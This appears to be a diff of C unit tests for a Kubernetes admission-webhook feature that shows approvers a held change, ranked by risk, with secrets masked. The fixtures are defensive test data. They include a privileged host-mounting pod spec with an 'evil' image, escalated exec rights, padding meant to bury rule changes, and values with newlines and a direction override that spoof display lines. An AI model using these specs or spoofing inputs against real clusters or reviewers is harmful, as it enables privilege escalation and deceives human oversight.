@@ -1,23 +1,25 @@
 /* SPDX-License-Identifier: Apache-2.0 */
-/* What an approver is shown of a change: differences, whole objects, no secrets, bounded. */
+/* What people are shown of a change: all of it, the most dangerous first, no secrets, bounded. */
 #include "webhook/hold/hold_change.h"
 
 #include <check.h>
 #include <stdio.h>
 
+#include "common/base/clock.h"
+#include "common/display/display.h"
 #include "policy/review/review.h"
 #include "support/run_tests.h"
 
 static struct arena *arena;
 static struct masker *masker;
-static struct buf text = BUF_INIT(8 << 20), out = BUF_INIT(HOLD_CHANGE_MAX + 4096);
-static bool cut;
+static struct buf text = BUF_INIT(16 << 20), shown_text = BUF_INIT(64 << 20);
+static struct hold_change change;
 
 static void setup(void)
 {
 	struct err e;
 
-	arena = arena_new(65536, 64 << 20);
+	arena = arena_new(65536, 256 << 20);
 	ck_assert_ptr_nonnull(arena);
 	ck_assert_msg(masker_new(NULL, NULL, &masker, &e) == 0, "%s", e.msg);
 }
@@ -27,7 +29,7 @@ static void teardown(void)
 	masker_free(masker);
 	arena_free(arena);
 	buf_free(&text);
-	buf_free(&out);
+	buf_free(&shown_text);
 }
 
 /* The change of a request about a config map, or another resource, made of `members`. */
@@ -37,7 +39,6 @@ static const char *change_of(const char *operation, const char *resource, const 
 	struct err e;
 
 	buf_reset(&text);
-	buf_reset(&out);
 	buf_printf(&text,
 		"{\"kind\":\"AdmissionReview\",\"apiVersion\":\"admission.k8s.io/v1\",\"request\":{"
 		"\"uid\":\"u\",\"operation\":\"%s\",\"resource\":{\"group\":\"\",\"version\":"
@@ -45,181 +46,490 @@ static const char *change_of(const char *operation, const char *resource, const 
 		"\"resource\":\"%s\"},\"kind\":{\"group\":\"\",\"version\":\"v1\",\"kind\":\"X\"},"
 		"\"name\":\"x\",\"namespace\":\"n\",\"userInfo\":{\"username\":\"agent\"}%s}}",
 		operation, resource, members);
-	ck_assert_msg(review_read_admission((struct span){buf_str(&text), text.len}, 1000000, arena,
-			      &r, &e) == REVIEW_OK,
+	ck_assert_msg(review_read((struct span){buf_str(&text), text.len}, 4000000, arena, &r,
+			      &e) == REVIEW_OK,
 		"%s", e.msg);
-	ck_assert_int_eq(hold_change_put(masker, &r.request, arena, &out, &cut), 0);
-	return buf_str(&out);
+	ck_assert_int_eq(hold_change_of(masker, &r.request, arena, &change), 0);
+	return change.text.ptr;
+}
+
+/* As people read it. */
+static const char *shown(const char *operation, const char *resource, const char *members)
+{
+	struct json_doc d;
+	struct err e;
+
+	change_of(operation, resource, members);
+	ck_assert_msg(display_read(change.text, arena, &d, &e) == 0, "%s", e.msg);
+	buf_reset(&shown_text);
+	display_put(&shown_text, &d);
+	return buf_str(&shown_text);
 }
 
 static const struct {
 	const char *expected, *operation, *resource, *members;
 } cases[] = {
-	{"{\"operation\":\"UPDATE\",\"changes\":[{\"path\":\"data.a\",\"old\":\"1\",\"new\":\"2\"}"
+	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"data\",\"path\":\"data.a\",\"old\":"
+	 "\"1\",\"new\":\"2\"}"
 	 "]}",
 		"UPDATE", "configmaps",
 		",\"oldObject\":{\"data\":{\"a\":\"1\"}},\"object\":{\"data\":{\"a\":\"2\"}}"},
-	{"{\"operation\":\"UPDATE\",\"changes\":[{\"path\":\"data.a\",\"old\":\"1\"}]}", "UPDATE",
-		"configmaps",
+	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"data\",\"path\":\"data.a\",\"old\":"
+	 "\"1\"}]}",
+		"UPDATE", "configmaps",
 		",\"oldObject\":{\"data\":{\"a\":\"1\",\"b\":\"2\"}},\"object\":{\"data\":{\"b\":"
 		"\"2\"}}"},
-	{"{\"operation\":\"UPDATE\",\"changes\":[{\"path\":\"metadata.annotations[\\\"a.b/c\\\"]\","
+	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"metadata\",\"path\":\"metadata."
+	 "annotations[\\\"a.b/c\\\"]\","
 	 "\"new\":\"x\"}]}",
 		"UPDATE", "configmaps",
 		",\"oldObject\":{\"metadata\":{\"annotations\":{\"k\":\"v\"}}},\"object\":{"
 		"\"metadata\":{\"annotations\":{\"k\":\"v\",\"a.b/c\":\"x\"}}}"},
-	{"{\"operation\":\"UPDATE\",\"changes\":[{\"path\":\"spec.containers[name=web].image\","
+	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"runs\",\"path\":\"spec.containers["
+	 "name=web].image\","
 	 "\"old\":\"a\",\"new\":\"b\"}]}",
 		"UPDATE", "pods",
 		",\"oldObject\":{\"spec\":{\"containers\":[{\"name\":\"web\",\"image\":\"a\"}]}},"
 		"\"object\":{\"spec\":{\"containers\":[{\"name\":\"web\",\"image\":\"b\"}]}}"},
-	{"{\"operation\":\"UPDATE\",\"changes\":[{\"path\":\"spec.containers[name=two]\",\"new\":{"
+	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"runs\",\"path\":\"spec.containers["
+	 "name=two]\",\"new\":{"
 	 "\"name\":\"two\"},\"place\":\"end\"}]}",
 		"UPDATE", "pods",
 		",\"oldObject\":{\"spec\":{\"containers\":[{\"name\":\"one\"}]}},\"object\":{"
 		"\"spec\":{\"containers\":[{\"name\":\"one\"},{\"name\":\"two\"}]}}"},
-	{"{\"operation\":\"UPDATE\",\"changes\":[{\"path\":\"spec.containers\",\"order\":[\"two\","
+	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"runs\",\"path\":\"spec.containers\","
+	 "\"by\":\"name\",\"oldOrder\":[\"one\",\"two\"],\"order\":[\"two\","
 	 "\"one\"]}]}",
 		"UPDATE", "pods",
 		",\"oldObject\":{\"spec\":{\"containers\":[{\"name\":\"one\"},{\"name\":\"two\"}]}}"
 		","
 		"\"object\":{\"spec\":{\"containers\":[{\"name\":\"two\"},{\"name\":\"one\"}]}}"},
 	/* an element that is called as a place is */
-	{"{\"operation\":\"UPDATE\",\"changes\":[{\"path\":\"spec.l[name=x]\",\"new\":{\"name\":"
+	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"spec\",\"path\":\"spec.l[name=x]\","
+	 "\"new\":{\"name\":"
 	 "\"x\"},\"after\":\"start\"}]}",
 		"UPDATE", "widgets",
 		",\"oldObject\":{\"spec\":{\"l\":[{\"name\":\"start\"},{\"name\":\"y\"}]}},"
 		"\"object\":{\"spec\":{\"l\":[{\"name\":\"start\"},{\"name\":\"x\"},{\"name\":"
 		"\"y\"}]}}"},
 	/* elements without a name, in another order */
-	{"{\"operation\":\"UPDATE\",\"changes\":[{\"path\":\"spec.l\",\"order\":[\"b\",\"a\"]}]}",
+	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"spec\",\"path\":\"spec.l\","
+	 "\"by\":\"key\",\"oldOrder\":[\"a\",\"b\"],\"order\":[\"b\",\"a\"]}]}",
 		"UPDATE", "widgets",
 		",\"oldObject\":{\"spec\":{\"l\":[{\"key\":\"a\"},{\"key\":\"b\"}]}},\"object\":{"
 		"\"spec\":{\"l\":[{\"key\":\"b\"},{\"key\":\"a\"}]}}"},
 	/* of one name: it is not what they are told apart by */
-	{"{\"operation\":\"UPDATE\",\"changes\":[{\"path\":\"spec.l\",\"order\":[\"/b\",\"/a\"]}]"
+	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"spec\",\"path\":\"spec.l\","
+	 "\"by\":\"mountPath\",\"oldOrder\":[\"/a\",\"/b\"],\"order\":[\"/b\",\"/a\"]}]"
 	 "}",
 		"UPDATE", "widgets",
 		",\"oldObject\":{\"spec\":{\"l\":[{\"name\":\"v\",\"mountPath\":\"/a\"},{\"name\":"
 		"\"v\",\"mountPath\":\"/b\"}]}},\"object\":{\"spec\":{\"l\":[{\"name\":\"v\","
 		"\"mountPath\":\"/b\"},{\"name\":\"v\",\"mountPath\":\"/a\"}]}}"},
 	/* numbers as people write them, and a text that looks like one */
-	{"{\"operation\":\"UPDATE\",\"changes\":[{\"path\":\"spec.l[port=\\\"8080\\\"].i\",\"old\":"
-	 "1,\"new\":2},{\"path\":\"spec.l[port=8080].i\",\"old\":1,\"new\":2},{\"path\":"
+	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"spec\",\"path\":\"spec.l[port="
+	 "\\\"8080\\\"].i\",\"old\":"
+	 "1,\"new\":2},{\"part\":\"spec\",\"path\":\"spec.l[port=8080].i\",\"old\":1,\"new\":2},{"
+	 "\"part\":\"spec\",\"path\":"
 	 "\"spec.l[port=9]\",\"new\":{\"port\":9},\"after\":8080}]}",
 		"UPDATE", "widgets",
 		",\"oldObject\":{\"spec\":{\"l\":[{\"port\":8080,\"i\":1},{\"port\":\"8080\",\"i\":"
 		"1}]}},\"object\":{\"spec\":{\"l\":[{\"port\":8080,\"i\":2},{\"port\":9},{\"port\":"
 		"\"8080\",\"i\":2}]}}"},
 	/* what identifies an element must not look like more of the path */
-	{"{\"operation\":\"UPDATE\",\"changes\":[{\"path\":\"spec.l[name=\\\"a].x[name=b\\\"].i\","
+	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"spec\",\"path\":\"spec.l[name=\\\"a]."
+	 "x[name=b\\\"].i\","
 	 "\"old\":"
-	 "1,\"new\":2},{\"path\":\"spec.l[name=\\\"c\\\\u0000\\\"].i\",\"old\":1,\"new\":2}]}",
+	 "1,\"new\":2},{\"part\":\"spec\",\"path\":\"spec.l[name=\\\"c\\\\u0000\\\"].i\",\"old\":1,"
+	 "\"new\":2}]}",
 		"UPDATE", "widgets",
 		",\"oldObject\":{\"spec\":{\"l\":[{\"name\":\"a].x[name=b\",\"i\":1},{\"name\":"
 		"\"c\\u0000\",\"i\":1}]}},\"object\":{\"spec\":{\"l\":[{\"name\":\"a].x[name=b\","
 		"\"i\":2},{\"name\":\"c\\u0000\",\"i\":2}]}}"},
-	{"{\"operation\":\"CREATE\",\"object\":{\"data\":{\"a\":\"1\"}}}", "CREATE", "configmaps",
-		",\"object\":{\"data\":{\"a\":\"1\"}}"},
+	{"{\"operation\":\"CREATE\",\"changes\":[{\"part\":\"data\",\"path\":\"data\",\"new\":{"
+	 "\"a\":"
+	 "\"1\"}}]}",
+		"CREATE", "configmaps", ",\"object\":{\"data\":{\"a\":\"1\"}}"},
 	/* who manages which field says nothing of the change */
-	{"{\"operation\":\"CREATE\",\"object\":{\"metadata\":{\"managedFields\":[]}}}", "CREATE",
-		"configmaps",
-		",\"object\":{\"metadata\":{\"managedFields\":[{\"manager\":\"kubectl\"}]}}"},
-	{"{\"operation\":\"DELETE\",\"object\":{\"data\":{\"a\":\"1\"}}}", "DELETE", "configmaps",
-		",\"oldObject\":{\"data\":{\"a\":\"1\"}}"},
-	{"{\"operation\":\"CONNECT\",\"options\":{\"command\":[\"sh\"]}}", "CONNECT", "pods",
-		",\"object\":{\"command\":[\"sh\"]}"},
+	{"{\"operation\":\"CREATE\",\"changes\":[{\"part\":\"metadata\",\"path\":\"metadata.name\","
+	 "\"new\":"
+	 "\"x\"}]}",
+		"CREATE", "configmaps",
+		",\"object\":{\"metadata\":{\"managedFields\":[{\"manager\":\"kubectl\"}],\"name\":"
+		"\"x\"}}"},
+	{"{\"operation\":\"DELETE\",\"summary\":{\"data\":\"1 key, 3 "
+	 "bytes\"},\"changes\":[{\"part\":"
+	 "\"data\",\"path\":\"data\",\"old\":{\"a\":\"1\"}}]}",
+		"DELETE", "configmaps", ",\"oldObject\":{\"data\":{\"a\":\"1\"}}"},
+	{"{\"operation\":\"CONNECT\",\"changes\":[{\"part\":\"runs\",\"path\":\"command\",\"new\":["
+	 "\"sh\"]}]}",
+		"CONNECT", "pods", ",\"object\":{\"command\":[\"sh\"]}"},
 	{"{\"operation\":\"DELETE\"}", "DELETE", "configmaps", ""},
-	{"{\"operation\":\"UPDATE\",\"object\":{\"a\":1}}", "UPDATE", "configmaps",
-		",\"object\":{\"a\":1}"},
+	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"spec\",\"path\":\"a\",\"new\":1}]}",
+		"UPDATE", "configmaps", ",\"object\":{\"a\":1}"},
 };
 
 START_TEST(hold_change__of_each_operation)
 {
 	ck_assert_str_eq(change_of(cases[_i].operation, cases[_i].resource, cases[_i].members),
 		cases[_i].expected);
-	ck_assert(!cut);
+	ck_assert_ptr_null(change.unseen.ptr);
+}
+END_TEST
+
+/* What people read, in the order of what it can do. */
+static const struct {
+	const char *expected, *operation, *resource, *members;
+} shown_cases[] = {
+	{"How many, how long:\n~ spec.replicas: 1 → 0\n", "UPDATE", "deployments",
+		",\"oldObject\":{\"spec\":{\"replicas\":1}},\"object\":{\"spec\":{\"replicas\":0}"
+		"}"},
+	/* null, absent, another type */
+	{"Everything else:\n~ spec.a: 1 → null\n- spec.b: null\n+ spec.c: null\n~ spec.d: \"1\" → "
+	 "1\n"
+	 "~ spec.e: {} → []\n~ spec.f: [1] → {\"x\": 1}\n",
+		"UPDATE", "widgets",
+		",\"oldObject\":{\"spec\":{\"a\":1,\"b\":null,\"d\":\"1\",\"e\":{},\"f\":[1]}},"
+		"\"object\":{\"spec\":{\"a\":null,\"c\":null,\"d\":1,\"e\":[],\"f\":{\"x\":1}}}"},
+	/* lists whose elements nothing tells apart are one value */
+	{"With which rights:\n- rules: [{\"verbs\": [\"get\"]}]\n+ rules: [{\"verbs\": [\"get\"]}, "
+	 "{\"verbs\": "
+	 "[\"*\"], \"resources\": [\"pods/exec\"]}]\n",
+		"UPDATE", "roles",
+		",\"oldObject\":{\"rules\":[{\"verbs\":[\"get\"]}]},\"object\":{\"rules\":[{"
+		"\"verbs\":["
+		"\"get\"]},{\"verbs\":[\"*\"],\"resources\":[\"pods/exec\"]}]}"},
+	{"Everything else:\n- spec.l: [{\"name\": \"a\", \"v\": 1}, {\"name\": \"a\", \"v\": "
+	 "2}]\n+ spec.l: "
+	 "[{\"name\": \"a\", \"v\": 2}]\n",
+		"UPDATE", "widgets",
+		",\"oldObject\":{\"spec\":{\"l\":[{\"name\":\"a\",\"v\":1},{\"name\":\"a\",\"v\":2}"
+		"]}},"
+		"\"object\":{\"spec\":{\"l\":[{\"name\":\"a\",\"v\":2}]}}"},
+	/* a pod, from what runs to what it is called */
+	{"What runs:\n"
+	 "+ spec.containers[name=c].command: [\"sh\", \"-c\", \"id\"]\n"
+	 "+ spec.containers[name=c].image: \"evil/x:1\"\n"
+	 "+ spec.containers[name=c].name: \"c\"\n"
+	 "As whom:\n"
+	 "+ spec.containers[name=c].securityContext: {\"privileged\": true}\n"
+	 "+ spec.hostPID: true\n"
+	 "+ spec.serviceAccountName: \"deployer\"\n"
+	 "Secrets and environment:\n"
+	 "+ spec.containers[name=c].envFrom: [{\"secretRef\": {\"name\": \"db\"}}]\n"
+	 "Volumes:\n"
+	 "+ spec.volumes: [{\"name\": \"v\", \"hostPath\": {\"path\": \"/\"}}]\n"
+	 "On which nodes:\n"
+	 "+ spec.nodeName: \"master-1\"\n"
+	 "Everything else:\n"
+	 "+ spec.containers[name=c].resources: {\"limits\": {\"cpu\": \"1\"}}\n"
+	 "Metadata that acts:\n"
+	 "+ metadata.annotations[\"eks.amazonaws.com/role-arn\"]: \"arn:aws:iam::1:role/admin\"\n"
+	 "+ metadata.finalizers: [\"a/b\"]\n"
+	 "+ metadata.labels: {\"app\": \"x\"}\n"
+	 "Metadata:\n"
+	 "+ apiVersion: \"v1\"\n"
+	 "+ kind: \"Pod\"\n"
+	 "+ metadata.annotations.note: \"read only and harmless\"\n"
+	 "+ metadata.name: \"p\"\n",
+		"CREATE", "pods",
+		",\"object\":{\"apiVersion\":\"v1\",\"kind\":\"Pod\",\"metadata\":{\"annotations\":"
+		"{"
+		"\"note\":\"read only and harmless\",\"eks.amazonaws.com/role-arn\":"
+		"\"arn:aws:iam::1:role/admin\"},\"finalizers\":[\"a/"
+		"b\"],\"labels\":{\"app\":\"x\"},"
+		"\"name\":\"p\"},\"spec\":{\"nodeName\":\"master-1\",\"hostPID\":true,"
+		"\"serviceAccountName\":\"deployer\",\"volumes\":[{\"name\":\"v\",\"hostPath\":{"
+		"\"path\":\"/"
+		"\"}}],\"containers\":[{\"name\":\"c\",\"resources\":{\"limits\":{\"cpu\":"
+		"\"1\"}},\"image\":\"evil/x:1\",\"command\":[\"sh\",\"-c\",\"id\"],\"envFrom\":[{"
+		"\"secretRef\":{\"name\":\"db\"}}],\"securityContext\":{\"privileged\":true}}]}}"},
+	/* a new element of a list, and one that is gone, in lines of their own */
+	{"What runs:\n"
+	 "+ spec.containers[name=b], at the end: new, with what is told of it\n"
+	 "+ spec.containers[name=b].image: \"i\"\n"
+	 "+ spec.containers[name=b].name: \"b\"\n"
+	 "As whom:\n"
+	 "+ spec.containers[name=b].securityContext: {\"privileged\": true}\n",
+		"UPDATE", "pods",
+		",\"oldObject\":{\"spec\":{\"containers\":[{\"name\":\"a\"}]}},\"object\":{"
+		"\"spec\":{"
+		"\"containers\":[{\"name\":\"a\"},{\"name\":\"b\",\"image\":\"i\","
+		"\"securityContext\":{"
+		"\"privileged\":true}}]}}"},
+	{"What runs:\n"
+	 "- spec.containers[name=b]: removed, with all in it\n"
+	 "- spec.containers[name=b].image: \"i\"\n"
+	 "- spec.containers[name=b].name: \"b\"\n"
+	 "As whom:\n"
+	 "- spec.containers[name=b].securityContext: {\"privileged\": true}\n",
+		"UPDATE", "pods",
+		",\"object\":{\"spec\":{\"containers\":[{\"name\":\"a\"}]}},\"oldObject\":{"
+		"\"spec\":{"
+		"\"containers\":[{\"name\":\"a\"},{\"name\":\"b\",\"image\":\"i\","
+		"\"securityContext\":{"
+		"\"privileged\":true}}]}}"},
+	/* a deletion begins with what is lost */
+	{"- what: Deployment\n"
+	 "- replicas: 3\n"
+	 "- ready: 2\n"
+	 "- containers: 2: web (nginx:1), proxy (envoy:2)\n"
+	 "- owner: Shop/checkout\n"
+	 "- finalizers: a/b\n"
+	 "- created: 1970-01-01T00:00:00Z",
+		"DELETE", "deployments",
+		",\"oldObject\":{\"kind\":\"Deployment\",\"metadata\":{\"creationTimestamp\":"
+		"\"1970-01-01T00:00:00Z\",\"finalizers\":[\"a/b\"],\"ownerReferences\":[{\"kind\":"
+		"\"Shop\",\"name\":\"checkout\"}]},\"spec\":{\"replicas\":3,\"template\":{\"spec\":"
+		"{"
+		"\"containers\":[{\"name\":\"web\",\"image\":\"nginx:1\"},{\"name\":\"proxy\","
+		"\"image\":"
+		"\"envoy:2\"}]}}},\"status\":{\"readyReplicas\":2}}"},
+	/* no value looks like a line, a key or a path of its own */
+	{"Data:\n~ data[\"a\\n+ spec.replicas\"]: \"1\" → \"x\\n+ spec.replicas: 5\\u202e\"\n",
+		"UPDATE", "configmaps",
+		",\"oldObject\":{\"data\":{\"a\\n+ "
+		"spec.replicas\":\"1\"}},\"object\":{\"data\":{\"a\\n+ "
+		"spec.replicas\":\"x\\n+ spec.replicas: 5\\u202e\"}}"},
+	{"Everything else:\n~ a.b[\"c/d\"]: 1 → 2\n~ [\"a.b\"][\"c/d\"]: 1 → 2\n", "UPDATE",
+		"widgets",
+		",\"oldObject\":{\"a.b\":{\"c/d\":1},\"a\":{\"b\":{\"c/"
+		"d\":1}}},\"object\":{\"a.b\":{"
+		"\"c/d\":2},\"a\":{\"b\":{\"c/d\":2}}}"},
+};
+
+START_TEST(hold_change__as_people_read_it)
+{
+	const char *expected = shown_cases[_i].expected,
+		   *got = shown(shown_cases[_i].operation, shown_cases[_i].resource,
+			   shown_cases[_i].members);
+
+	if (strcmp(shown_cases[_i].operation, "DELETE") == 0)
+		ck_assert_msg(strncmp(got, expected, strlen(expected)) == 0, "%s", got);
+	else
+		ck_assert_str_eq(got, expected);
+	ck_assert_ptr_null(change.unseen.ptr);
 }
 END_TEST
 
 START_TEST(hold_change__a_changed_secret_shows_without_its_value)
 {
-	const char *shown = change_of("UPDATE", "secrets",
+	const char *stored = change_of("UPDATE", "secrets",
 		",\"oldObject\":{\"data\":{\"pw\":\"aHVudGVyMQ==\"}},\"object\":{\"data\":{\"pw\":"
 		"\"aHVudGVyMg==\"}}");
 
-	ck_assert_ptr_nonnull(strstr(shown, "{\"path\":\"data.pw\",\"old\":\"[masked "));
-	ck_assert_ptr_null(strstr(shown, "aHVudGVy"));
+	ck_assert_ptr_nonnull(strstr(stored, "\"path\":\"data.pw\",\"old\":\"[masked "));
+	ck_assert_ptr_nonnull(strstr(stored, "\"hidden\":{\"values\":2,\"bytes\":14}"));
+	ck_assert_ptr_null(strstr(stored, "aHVudGVy"));
+	ck_assert_ptr_null(strstr(stored, "hunter"));
 }
 END_TEST
 
-/* A member "big" of so many bytes, and one after it. */
-static const char *large_members(size_t bytes, bool both)
+/* Nine notes of 7.5 KB in front of new rules: the rules come first, and nothing is cut. */
+START_TEST(hold_change__padding_hides_nothing)
 {
 	static struct buf b = BUF_INIT(4 << 20);
+	const char *first = "With which rights:\n~ rules: [{\"resources\": [\"pods\"]}] → "
+			    "[{\"resources\": [\"secrets\", \"pods/exec\"]}]\nMetadata:\n";
 
 	buf_reset(&b);
-	for (int side = both ? 0 : 1; side < 2; side++) {
-		buf_add_str(&b, side ? ",\"object\":{\"data\":{\"big\":\""
-				     : ",\"oldObject\":{\"data\":{\"big\":\"");
-		for (size_t i = 0; i < bytes; i++)
-			buf_add_char(&b, side ? 'x' : 'y');
-		buf_add_str(&b, side ? "\",\"z\":\"1\"}}" : "\",\"z\":\"2\"}}");
+	buf_add_str(&b, ",\"oldObject\":{\"rules\":[{\"resources\":[\"pods\"]}]},\"object\":{"
+			"\"metadata\":{\"annotations\":{");
+	for (int i = 0; i < 9; i++) {
+		buf_printf(&b, "%s\"docs.example.com/readme-%d\":\"", i > 0 ? "," : "", i);
+		for (int n = 0; n < 250; n++)
+			buf_add_str(&b, "This role is read only and harm");
+		buf_add_char(&b, '"');
 	}
-	return buf_str(&b);
-}
-
-START_TEST(hold_change__a_large_value_is_cut_and_said_to_be)
-{
-	const char *shown = change_of("UPDATE", "configmaps", large_members(20000, true));
-
-	ck_assert(cut);
-	ck_assert_ptr_nonnull(strstr(shown, "{\"path\":\"data.big\",\"old\":{\"cut\":\"\\\"yyy"));
-	ck_assert_ptr_nonnull(strstr(shown, "{\"path\":\"data.z\",\"old\":\"2\",\"new\":\"1\"}"));
-	ck_assert_ptr_nonnull(strstr(shown, "],\"cut\":true}"));
+	buf_add_str(&b, "}},\"rules\":[{\"resources\":[\"secrets\",\"pods/exec\"]}]}");
+	ck_assert_str_eq(
+		arena_strndup(arena, shown("UPDATE", "roles", buf_str(&b)), strlen(first)), first);
+	ck_assert_ptr_null(change.unseen.ptr);
+	ck_assert_uint_gt(change.text.len, 60000);
+	ck_assert_int_eq(
+		strncmp(change.brief.ptr, "~ rules: [{\"resources\": [\"pods\"]}] ", 34), 0);
+	ck_assert_msg(strstr(change.brief.ptr, "… and 2 more\n") != NULL, "%s", change.brief.ptr);
+	buf_free(&b);
 }
 END_TEST
 
-START_TEST(hold_change__a_long_path_is_cut_and_said_to_be)
+/* Two sides of a config map, of so many keys with values of so many bytes. */
+static const char *large_members(unsigned keys, size_t bytes)
 {
-	char key[1200], members[4000];
-
-	memset(key, 'k', sizeof(key) - 1);
-	key[sizeof(key) - 1] = 0;
-	snprintf(members, sizeof(members), ",\"oldObject\":{\"%s\":1},\"object\":{\"%s\":2}", key,
-		key);
-	ck_assert_ptr_nonnull(strstr(change_of("UPDATE", "widgets", members), ",\"cut\":true}"));
-	ck_assert(cut);
-}
-END_TEST
-
-START_TEST(hold_change__a_large_object_is_cut_and_said_to_be)
-{
-	const char *shown = change_of("CREATE", "configmaps", large_members(200000, false));
-
-	ck_assert(cut);
-	ck_assert_uint_le(out.len, HOLD_CHANGE_MAX + 4096);
-	ck_assert_ptr_nonnull(strstr(shown, "\"object\":{\"cut\":\"{\\\"data\\\":{\\\"big\\\""));
-}
-END_TEST
-
-START_TEST(hold_change__differences_beyond_the_limit_are_counted)
-{
-	static struct buf b = BUF_INIT(4 << 20);
-	const char *shown;
+	static struct buf b = BUF_INIT(16 << 20);
 
 	buf_reset(&b);
 	for (int side = 0; side < 2; side++) {
 		buf_add_str(&b, side ? ",\"object\":{\"data\":{" : ",\"oldObject\":{\"data\":{");
-		for (int i = 0; i < 3000; i++)
-			buf_printf(&b, "%s\"key-%d\":\"%d\"", i > 0 ? "," : "", i, side);
+		for (unsigned i = 0; i < keys; i++) {
+			buf_printf(&b, "%s\"key-%u\":\"", i > 0 ? "," : "", i);
+			for (size_t n = 0; n < bytes; n++)
+				buf_add_char(&b, (char)('a' + (n + (size_t)side) % 23));
+			buf_add_char(&b, '"');
+		}
 		buf_add_str(&b, "}}");
 	}
-	shown = change_of("UPDATE", "configmaps", buf_str(&b));
+	return buf_str(&b);
+}
+
+/* What a cluster can store fits, before and after: it is all there. */
+START_TEST(hold_change__any_object_of_a_cluster_is_shown_whole)
+{
+	static const struct {
+		unsigned keys;
+		size_t bytes;
+	} sizes[] = {{1, 1500000}, {40, 36000}, {20000, 40}};
+	const char *members = large_members(sizes[_i].keys, sizes[_i].bytes);
+	int64_t began = monotonic_us();
+
+	change_of("UPDATE", "configmaps", members);
+	fprintf(stderr, "%u keys of %zu bytes: %lld ms, %zu bytes\n", sizes[_i].keys,
+		sizes[_i].bytes, (long long)(monotonic_us() - began) / 1000, change.text.len);
+	ck_assert_ptr_null(change.unseen.ptr);
+	ck_assert_uint_gt(change.text.len, 2 * sizes[_i].keys * sizes[_i].bytes);
+}
+END_TEST
+
+/* Larger than that, long values shorten to one length, short ones and all paths stay. */
+START_TEST(hold_change__too_large_values_shorten_evenly_and_say_so)
+{
+	static struct buf b = BUF_INIT(16 << 20);
+	const char *stored, *seen;
+
+	buf_reset(&b);
+	buf_add_str(&b, large_members(3, 1000000));
+	b.len -= 2;
+	buf_add_str(&b, "},\"metadata\":{\"annotations\":{\"z\":\"short\"}}}");
+	stored = change_of("UPDATE", "configmaps", buf_str(&b));
+	ck_assert_uint_le(change.text.len, DISPLAY_CHANGE_MAX);
+	ck_assert_uint_gt(change.text.len, DISPLAY_CHANGE_MAX / 3);
+	for (int i = 0; i < 3; i++) {
+		char path[40];
+
+		snprintf(path, sizeof(path), "\"path\":\"data.key-%d\"", i);
+		ck_assert_ptr_nonnull(strstr(stored, path));
+	}
+	ck_assert_ptr_nonnull(strstr(stored, "\"oldCut\":{\"begin\":\"\\\"abcdefg"));
+	ck_assert_ptr_nonnull(strstr(stored, "\"bytes\":1000002}"));
+	ck_assert_ptr_nonnull(strstr(stored, "\"new\":\"short\"}],\"cut\":true}"));
+	ck_assert_str_eq(change.unseen.ptr, "data.key-0, data.key-1, data.key-2 (all shortened)");
+	seen = shown("UPDATE", "configmaps", buf_str(&b));
+	ck_assert_ptr_nonnull(strstr(seen, " … NOT SHOWN: "));
+	ck_assert_ptr_nonnull(strstr(seen, " of 1000002 bytes … "));
 	buf_free(&b);
-	ck_assert(cut);
-	ck_assert_uint_le(out.len, HOLD_CHANGE_MAX);
-	ck_assert_ptr_nonnull(strstr(shown, "],\"cut\":true,\"omitted\":"));
+}
+END_TEST
+
+/* More lines than there is room for: named, from the harmless end. */
+START_TEST(hold_change__lines_without_room_are_named)
+{
+	static struct buf b = BUF_INIT(16 << 20);
+	const char *stored;
+
+	buf_reset(&b);
+	buf_add_str(&b, ",\"oldObject\":{\"spec\":{\"replicas\":1}},\"object\":{\"metadata\":{"
+			"\"annotations\":{");
+	for (int i = 0; i < 60000; i++)
+		buf_printf(&b, "%s\"pad-%060d\":\"%d\"", i > 0 ? "," : "", i, i);
+	buf_add_str(&b, "}},\"spec\":{\"replicas\":0}}");
+	stored = change_of("UPDATE", "deployments", buf_str(&b));
+	ck_assert_uint_le(change.text.len, DISPLAY_CHANGE_MAX);
+	ck_assert_ptr_nonnull(
+		strstr(stored, "\"changes\":[{\"part\":\"scale\",\"path\":\"spec.replicas\","
+			       "\"old\":1,\"new\":0},"));
+	ck_assert_ptr_nonnull(
+		strstr(stored, "\"notShown\":[{\"path\":\"metadata.annotations\",\"lines\":"));
+	ck_assert_int_eq(strncmp(change.unseen.ptr, "metadata.annotations (", 22), 0);
+	ck_assert_ptr_nonnull(strstr(shown("UPDATE", "deployments", buf_str(&b)),
+		"\n! NOT SHOWN: metadata.annotations: "));
+	buf_free(&b);
+}
+END_TEST
+
+/* A path has no end that hides in it. */
+START_TEST(hold_change__a_long_path_is_cut_and_said_to_be)
+{
+	static char key[6000], members[16000];
+
+	memset(key, 'k', sizeof(key) - 1);
+	snprintf(members, sizeof(members), ",\"oldObject\":{\"%s\":1},\"object\":{\"%s\":2}", key,
+		key);
+	ck_assert_ptr_nonnull(
+		strstr(change_of("UPDATE", "widgets", members), ",\"pathBytes\":6001,"));
+	ck_assert_ptr_nonnull(change.unseen.ptr);
+	ck_assert_ptr_nonnull(
+		strstr(shown("UPDATE", "widgets", members), "NOT SHOWN: the rest of"));
+}
+END_TEST
+
+/* Many fields below a long way: time and memory stay in proportion to the object. */
+START_TEST(hold_change__long_ways_cost_no_square)
+{
+	static struct buf b = BUF_INIT(16 << 20);
+	int64_t began;
+
+	buf_reset(&b);
+	buf_add_str(&b, ",\"object\":{\"spec\":{\"");
+	for (int i = 0; i < 500000; i++)
+		buf_add_char(&b, 'k');
+	buf_add_str(&b, "\":[");
+	for (int i = 0; i < 40000; i++)
+		buf_printf(&b, "%s{\"image\":\"%d\",\"x\":1}", i > 0 ? "," : "", i);
+	buf_add_str(&b, "]}}");
+	began = monotonic_us();
+	change_of("CREATE", "widgets", buf_str(&b));
+	ck_assert_ptr_nonnull(change.unseen.ptr);
+	ck_assert_uint_le(change.text.len, DISPLAY_CHANGE_MAX);
+	ck_assert_int_lt(monotonic_us() - began, 60000000);
+	buf_free(&b);
+}
+END_TEST
+
